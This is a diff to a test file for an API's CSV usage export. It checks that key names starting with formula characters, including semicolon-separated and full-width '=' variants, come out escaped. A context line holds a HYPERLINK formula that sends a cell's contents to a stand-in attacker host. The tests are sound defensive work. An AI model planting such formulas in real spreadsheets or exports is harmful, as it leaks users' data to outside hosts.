@@ -256,6 +256,18 @@ t.test('names that are scripts are only names, in every reply and file', (t) =>
     t.match(csv.headers.get('content-disposition'), /^attachment; filename="[\w.-]+"$/)
     // A spreadsheet takes it for a text.
     t.match(csv.text, `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`)
+    // One that separates cells by semicolons, and one that knows wide signs, do as well.
+    for (const [key, text] of [
+      ['a;=1+1', `a;'=1+1`],
+      ['＝1+1', `'＝1+1`],
+      ['a=1+1', 'a=1+1'],
+    ] as const) {
+      const body = { workspace_id: id, name: key }
+      const { id: keyId } = await admin.done<NewKey>('POST', '/keys', body)
+      void accounts.ledger.book({ ...booking, keyId }, false)
+      const { text: lines } = await admin.ask('GET', '/usage?by=key&format=csv')
+      t.ok(lines.includes(`,${keyId},${text},`), lines)
+    }
     t.ok(workspaceId)
   }),
 )
